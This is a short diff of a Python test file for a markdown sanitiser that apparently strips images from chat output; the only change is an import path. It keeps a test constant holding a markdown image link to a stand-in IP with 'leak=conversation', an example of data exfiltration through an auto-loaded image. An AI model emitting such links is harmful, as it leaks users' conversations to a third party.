@@ -8,7 +8,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from duet_core.safe_markdown import IMAGE_MARK, has_image, safe_markdown
-from duet_ui.transcript import shown
+from duet_ui.shared.transcript import shown
 
 TRACK = "![x](http://203.0.113.7/track.png?leak=conversation)"
 
